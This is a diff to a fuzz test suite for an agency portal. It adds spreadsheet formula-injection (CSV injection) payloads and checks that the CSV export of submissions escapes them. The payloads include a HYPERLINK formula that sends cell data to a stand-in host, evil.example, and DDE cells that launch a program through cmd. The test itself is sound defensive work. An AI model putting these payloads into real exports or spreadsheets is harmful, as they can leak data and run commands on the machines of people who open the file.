@@ -14,6 +14,8 @@ import { seedCycle, type SeededCycle } from '../../support/cycle-fixture';
 import { runningWorker, TEST_FROM, TEST_LINKS } from '../../support/worker';
 import { testFiles } from '../../support/files';
 import { EXE_BYTES, fixture, HTML_BYTES, minimalPdf, minimalXlsx } from '../../fixtures/files/documents';
+import { parse } from 'csv-parse/sync';
+import { exportSubmissions } from '../../../src/reports/exports';
 import { Random, seedFromEnv } from '../../support/fuzz-random';
 import {
   multipartBody,
@@ -154,6 +156,14 @@ const ODD_NUMBERS = [
   '1/2',
   '0,125',
 ];
+const FORMULA_CELLS = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 const INJECTIONS = [
   '<script>alert(1)</script>',
   '{{ 7 | times: 7 }}',
@@ -165,6 +175,8 @@ const INJECTIONS = [
   '${process.exit()}',
   '__proto__',
   '{"$where": "1"}',
+  // Formula cells (OWASP CSV injection): a spreadsheet would run them if an export left them as they are.
+  ...FORMULA_CELLS,
 ];
 const INVALID_UTF8 = [
   Buffer.from([0xff]),
@@ -1421,6 +1433,11 @@ describe('the agency portal under fuzzed requests', () => {
     expect(tree(files.root)).toHaveLength(1);
 
     const submission = valid('submit', 'multipart', reportToken);
+    // Its person and summary are formula cells: stored as given, exported as text.
+    for (const field of submission.fields) {
+      if (field.name.equals(fieldName('submittedBy'))) field.value = utf8(FORMULA_CELLS[3]!);
+      if (field.name.equals(fieldName('summary'))) field.value = utf8(FORMULA_CELLS[0]!);
+    }
     submission.files.push({
       field: utf8('attachments'),
       filename: utf8('bao-cao.pdf'),
@@ -1432,5 +1449,13 @@ describe('the agency portal under fuzzed requests', () => {
     expect(tree(files.root)).toHaveLength(2);
     expect((await agencyStatus()).obligations[0]!.submissions).toHaveLength(1);
     expect(await acceptedUpdates(obligations)).toBe(2);
+    const stored = await database.db.prisma.submission.findFirstOrThrow();
+    expect([stored.submittedBy, stored.summary]).toEqual([FORMULA_CELLS[3], FORMULA_CELLS[0]]);
+    const csv = (await exportSubmissions(database.db, seeded.cycleId, { format: 'csv', lang: 'vi' }))!;
+    const text = csv.body.toString('utf8');
+    // No cell of the file starts with what a spreadsheet reads as a formula.
+    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d[\d.,]*$/.test(c))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining([`'${FORMULA_CELLS[0]}`, `'${FORMULA_CELLS[3]}`]));
   });
 });
